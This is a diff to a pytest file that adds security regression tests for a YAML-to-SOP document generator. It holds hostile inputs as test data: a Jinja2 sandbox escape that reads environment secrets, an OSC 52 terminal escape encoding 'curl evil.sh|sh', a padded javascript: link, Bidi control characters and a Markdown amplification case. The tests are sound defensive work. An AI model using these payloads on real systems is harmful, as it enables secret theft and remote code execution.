@@ -14,6 +14,8 @@ from pathlib import Path
 
 import pytest
 import yaml
+from hypothesis import given
+from hypothesis import strategies as st
 
 HOSTILE = Path(__file__).parent / "hostile"
 EXPECTED = yaml.safe_load((HOSTILE / "expected.yaml").read_text(encoding="utf-8"))
@@ -373,7 +375,7 @@ def test_a_sops_folder_linked_from_outside_the_project_is_not_read(make_project,
     code, out, err = run_cli(command, cwd=root)
 
     assert code == 2
-    assert "sopgen.yaml:1:1: the sops folder 'sops' is outside the project" in err
+    assert "sops: the sops folder is a link that leads outside the project" in err
     assert "TOP-SECRET" not in out + err and not (root / "build").exists()
 
 
@@ -580,7 +582,10 @@ def test_a_lower_limit_in_sopgen_yaml_is_applied_and_named(make_project, run_cli
 
 
 @pytest.mark.parametrize("limits, message", [
-    ("{max_file_bytes: 0}", "limits: max_file_bytes must be at least 1"),
+    ("{max_file_bytes: 0}", "limits: max_file_bytes must be from 1 to 50,000,000"),
+    ("{max_file_bytes: 50000001}", "limits: max_file_bytes must be from 1 to 50,000,000"),
+    ("{max_file_bytes: ²}", "'max_file_bytes' in 'limits' must be a whole number, not '²'"),
+    ("{max_depth: 1" + "0" * 5000 + "}", "'max_depth' in 'limits' is too large (5,001 digits)"),
     ("{max_depth: 5000}", "limits: max_depth must be from 1 to 1000"),
     ("{max_depth: 0}", "limits: max_depth must be from 1 to 1000"),
     ("{max_file_bytes: lots}", "'max_file_bytes' in 'limits' must be a whole number, not 'lots'"),
@@ -624,3 +629,124 @@ def test_a_hostile_template_stops_the_build_cleanly(make_project, run_cli, templ
     assert code == 2, out
     assert message in err and "Traceback" not in out + err
     assert not (root / "build").exists()
+
+
+def test_a_template_cannot_reach_the_environment_through_the_format_method(make_project, run_cli, monkeypatch):
+    # Jinja2 3.1.5's sandbox let `attr("format")` hand out str.format unchecked,
+    # which walks attributes freely: a pull request could copy CI secrets into
+    # build/md. The floor in pyproject.toml (jinja2>=3.1.6) is what blocks it.
+    monkeypatch.setenv("SOPGEN_TEST_SECRET", "hunter2-secret")
+    root = make_project()
+    (root / "templates" / "md").mkdir(parents=True)
+    (root / "templates" / "md" / "sop.md").write_text(
+        '{% set leak = "{0.__init__.__globals__[os].environ[SOPGEN_TEST_SECRET]}" | attr("format") %}'
+        "{{ leak(cycler) }}\n", encoding="utf-8")
+
+    code, out, err = run_cli(["build", "--format", "md"], cwd=root)
+
+    assert code == 2, out
+    assert "hunter2-secret" not in out + err and "Traceback" not in out + err
+    assert not (root / "build").exists()
+
+
+# --------------------------------------------------------------------------- control characters never printed raw
+
+RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+@pytest.mark.parametrize("command", [["lint"], ["check"], ["build", "--format", "md"], ["status"],
+                                     ["lint", "--format", "github"]], ids=" ".join)
+@pytest.mark.parametrize("where", ["sop-field", "config-key", "file-name"])
+def test_control_characters_are_refused_and_never_printed_raw(make_project, run_cli, VALID_SOP, VALID_CONFIG,
+                                                              command, where):
+    osc52 = "\\e]52;c;Y3VybCBldmlsLnNofHNo\\a"
+    if where == "sop-field":
+        root = make_project({"door/welcome-arrivals.yaml": VALID_SOP.replace(
+            "owner: Head Door Concierge", f'owner: "Head Door{osc52}\\u202eConcierge"')})
+    elif where == "config-key":
+        root = make_project(config=VALID_CONFIG + f'"x{osc52}": 1\n')
+    else:
+        root = make_project({"door/welcome-arrivals.yaml": VALID_SOP, "door/a\x1b]52;c;eA==\x07.yaml": "id: [\n"})
+
+    code, out, err = run_cli(command, cwd=root)
+
+    assert code == 2, out + err
+    assert RAW_CONTROL.findall(out + err) == [], out + err
+    assert "\\x1b" in out + err or "(U+001B)" in out + err   # shown as its escape, or named
+    assert not (root / "build").exists()
+
+
+@given(st.text())
+def test_no_problem_message_holds_a_raw_control_character(text):
+    from sopgen.problems import Problem, Severity
+
+    problem = Problem(text, 1, 1, "SOP006", "unknown-key", Severity.ERROR, f"unknown key '{text}'", text)
+
+    assert not RAW_CONTROL.search(problem.path + problem.message + problem.hint)
+    assert "\n" not in problem.path
+
+
+# --------------------------------------------------------------------------- Markdown bombs
+
+
+def test_a_reference_link_is_not_repeated_into_the_page(make_project, run_cli):
+    # [x]: <2 KB URL> then [x] 250 times made a 500 KB page; a 0.9 MB SOP became a 144 MB page.
+    root = make_project({"door/welcome.yaml": (HOSTILE / "reference-link-amplifier.yaml").read_bytes()})
+
+    code, out, err = run_cli(["build", "--format", "html", "--format", "md"], cwd=root)
+
+    assert code == 0, out + err
+    source = (HOSTILE / "reference-link-amplifier.yaml").stat().st_size
+    for page in [*(root / "build" / "html").glob("door-*.html"), *(root / "build" / "md").glob("*.md")]:
+        assert page.stat().st_size < 2 * source + 20_000, page.name
+
+
+@given(st.text(alphabet="ab()\\ \t]:[j&#;", max_size=40))
+def test_link_destinations_end_where_a_scan_from_their_start_ends(text):
+    from sopgen.render.markup import _destination_ends
+
+    def scanned(start):   # the definition: to a blank or an unbalanced ')', skipping escaped characters
+        depth, i = 0, start
+        while i < len(text):
+            if text[i] == "\\":
+                i += 2
+                continue
+            if text[i].isspace() or (text[i] == ")" and depth == 0):
+                break
+            depth += {"(": 1, ")": -1}.get(text[i], 0)
+            i += 1
+        return min(i, len(text))
+
+    ends = _destination_ends(text)
+    for start in range(len(text)):
+        if start == 0 or text[start - 1] != "\\":
+            assert ends[start] == scanned(start)
+
+
+def test_a_scheme_hidden_behind_padding_is_still_blocked():
+    from sopgen.render.markup import to_safe_markdown
+
+    padded = to_safe_markdown("[z](" + "&#9;" * 100 + "javascript:alert(1))")
+
+    assert "javascript" not in padded and "#blocked-" in padded
+
+
+def test_markdown_nested_past_what_the_renderer_can_recurse_is_shown_as_text():
+    from sopgen.render.markup import to_html
+
+    deep = "".join("    " * i + "- level\n" for i in range(400))
+
+    assert "level" in to_html(deep)   # a RecursionError traceback before
+    assert to_html("It *is*") == "It <em>is</em>"   # and the renderer still works after it
+
+
+def test_a_default_folder_linked_out_of_the_project_is_reported_at_the_link(make_project, run_cli, tmp_path):
+    root = make_project()
+    (tmp_path / "elsewhere").mkdir()
+    symlink(root / "build", tmp_path / "elsewhere")
+
+    code, out, err = run_cli(["lint"], cwd=root)
+
+    assert code == 2
+    assert "build: the output folder is a link that leads outside the project" in err
+    assert "sopgen.yaml:1:1" not in err
